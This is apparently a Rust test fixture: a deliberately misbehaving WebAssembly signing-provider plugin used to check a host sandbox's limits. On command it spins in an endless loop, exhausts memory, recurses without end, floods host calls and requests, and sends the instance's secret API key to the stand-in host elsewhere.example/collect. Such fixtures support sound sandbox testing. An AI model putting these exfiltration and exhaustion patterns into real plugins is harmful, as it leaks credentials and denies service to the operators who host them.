//! The misbehaviours, and the component's export.

#![expect(unsafe_code, reason = "the export macro writes the entry points")]

use std::hint::black_box;

#[allow(
    missing_docs,
    unsafe_code,
    clippy::all,
    reason = "generated from wit/host and wit/signing"
)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../wit/host", "../../../wit/signing"],
        world: "holdfast:signing/signing-provider",
        generate_all,
        pub_export_macro: true,
    });
}

use bindings::exports::holdfast::signing::signing::{
    Callback, CallbackError, CallbackSubject, Field, Guest, ProviderError, Submission,
    SubmissionRequest, Template,
};
use bindings::holdfast::host::blobs::Blob;
use bindings::holdfast::host::http::{self, HeaderValue, HttpError, Request};
use bindings::holdfast::host::{clock, secrets, settings};

type Result<T> = std::result::Result<T, ProviderError>;

struct Component;

fn refuse<T>() -> Result<T> {
    Err(ProviderError::Rejected("this plugin has no vendor".into()))
}

fn done(name: String) -> Result<Template> {
    Ok(Template {
        template_id: "1".into(),
        name,
        roles: vec!["Buyer".into()],
        fields: Vec::new(),
        documents: 1,
    })
}

fn recurse(depth: u64) -> u64 {
    let here = black_box([depth; 64]);
    recurse(depth + 1) + here[(depth % 64) as usize]
}

/// Sends a request with the instance's secret in a header.
fn send(url: String) -> Result<Template> {
    let key = secrets::open("api_key").ok_or(ProviderError::NotFound)?;
    let headers = vec![(
        "X-Auth-Token".to_owned(),
        HeaderValue::Secret((String::new(), &key)),
    )];
    let request = Request {
        method: "GET".into(),
        url,
        headers,
        body: Vec::new(),
    };
    match http::send(&request) {
        Ok(answer) if answer.status == 200 => done("fetched".into()),
        Ok(answer) => Err(ProviderError::Rejected(format!("status {}", answer.status))),
        Err(HttpError::Denied(why)) => Err(ProviderError::Rejected(format!("denied: {why}"))),
        Err(HttpError::Timeout) => Err(ProviderError::Unreachable("no answer in time".into())),
        Err(HttpError::Unreachable(why) | HttpError::OverLimit(why) | HttpError::Other(why)) => {
            Err(ProviderError::Unreachable(why))
        }
        Err(HttpError::InvalidRequest(why)) => Err(ProviderError::Rejected(why)),
    }
}

fn behave(behaviour: &str) -> Result<Template> {
    let base = settings::get("base_url").unwrap_or_default();
    match behaviour {
        "well" => done("well".into()),
        "loop" => loop {
            black_box(());
        },
        "memory" => {
            let mut all: Vec<Vec<u8>> = Vec::new();
            loop {
                all.push(black_box(vec![1; 1 << 20]));
            }
        }
        "recursion" => {
            black_box(recurse(0));
            refuse()
        }
        "trap" => unreachable!("as it was told"),
        "output" => done("x".repeat(8 << 20)),
        "host-calls" => {
            for _ in 0..10_000 {
                black_box(clock::now());
            }
            refuse()
        }
        "requests" => {
            for _ in 0..17 {
                send(format!("{base}/ok"))?;
            }
            refuse()
        }
        "forbidden-host" | "exfiltration" => send("https://elsewhere.example/collect".into()),
        path => send(format!("{base}/{path}")),
    }
}

impl Guest for Component {
    fn create_template(
        _name: String,
        _external_id: String,
        _document: &Blob,
        _fields: Vec<Field>,
    ) -> Result<Template> {
        match settings::get("behaviour") {
            Some(behaviour) => behave(&behaviour),
            None => refuse(),
        }
    }

    fn read_template(_template_id: String) -> Result<Template> {
        refuse()
    }

    fn add_fields(_template_id: String, _fields: Vec<Field>) -> Result<Template> {
        refuse()
    }

    fn clone_template(
        _template_id: String,
        _name: String,
        _external_id: String,
    ) -> Result<Template> {
        refuse()
    }

    fn archive_template(_template_id: String) -> Result<()> {
        refuse()
    }

    fn create_submission(_request: SubmissionRequest) -> Result<Submission> {
        refuse()
    }

    fn read_submission(_submission_id: String) -> Result<Submission> {
        refuse()
    }

    fn archive_submission(_submission_id: String) -> Result<()> {
        refuse()
    }

    fn signed_document(_submission_id: String) -> Result<Blob> {
        refuse()
    }

    fn read_callback(_callback: Callback) -> std::result::Result<CallbackSubject, CallbackError> {
        Err(CallbackError::Unverified("nobody calls back".into()))
    }
}

bindings::export!(Component with_types_in bindings);
